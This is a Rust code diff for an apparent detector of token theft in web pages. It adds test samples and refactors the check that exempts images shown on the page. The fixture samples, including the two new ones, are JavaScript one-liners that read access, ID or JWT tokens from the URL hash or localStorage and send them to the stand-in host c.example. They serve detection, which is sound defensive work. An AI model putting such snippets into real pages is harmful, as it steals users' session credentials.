@@ -23,6 +23,9 @@ pub(super) const SIGNAL: Signal = Signal {
             r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');if(t){const i=new Image();i.src=`https://c.example/g?t=${t}`}"#,
             r#"const t=new URLSearchParams(location.hash.slice(1)).get('id_token');navigator.sendBeacon('https://c.example/t',t)"#,
             r#"var t=localStorage.getItem('jwt');if(t){var i=new Image();i.src='https://c.example/g?j='+t}"#,
+            // What else is put into the page does not matter.
+            r#"var t=localStorage.getItem('jwt');var i=new Image();i.src='https://c.example/g?j='+t;list.append(row)"#,
+            r#"list.append(row);new Image().src='https://c.example/?t='+localStorage.getItem('token');row.append(cell)"#,
         ],
         without: &[
             r#"new Image().src='https://stats.example/?u='+encodeURIComponent(location.href.replace(/access_token=[^&]+/,''))"#,
@@ -78,8 +81,7 @@ fn takes_stored_token(evidence: &Evidence<'_>, held: Held) -> bool {
     if !near.has_fact(&[Atom::Storage]) {
         return false;
     }
-    // A picture that people see may need the right to see it.
-    if near.among(held.first as usize..held.last as usize + 40).has_word(SHOWS) {
+    if is_shown(near, held) {
         return false;
     }
     near.words(&["localStorage", "sessionStorage"]).any(|at| {
@@ -104,6 +106,20 @@ fn takes_stored_token(evidence: &Evidence<'_>, held: Held) -> bool {
         };
         (read && names(&key) || near.kind(at + 1) == Some(Kind::Member) && names(&own))
             && near.runs_unasked(at)
+    })
+}
+
+/// Whether the picture itself is put into the page: a picture that people see may need the right to see it.
+fn is_shown(near: Near<'_>, held: Held) -> bool {
+    let around = near.among(held.first as usize..held.last as usize + 40);
+    let is_name = |at: usize| near.kind(at) == Some(Kind::Name);
+    let mut pictures =
+        around.words(&["src"]).filter(|at| near.is(at + 1, b'=') && is_name(at.saturating_sub(1)));
+    pictures.any(|src| {
+        around.words(SHOWS).any(|puts| {
+            let mut given = (puts + 2..puts + 8).take_while(|at| !near.is(*at, b')'));
+            near.is(puts + 1, b'(') && given.any(|at| is_name(at) && near.word(at) == near.word(src - 1))
+        })
     })
 }
 
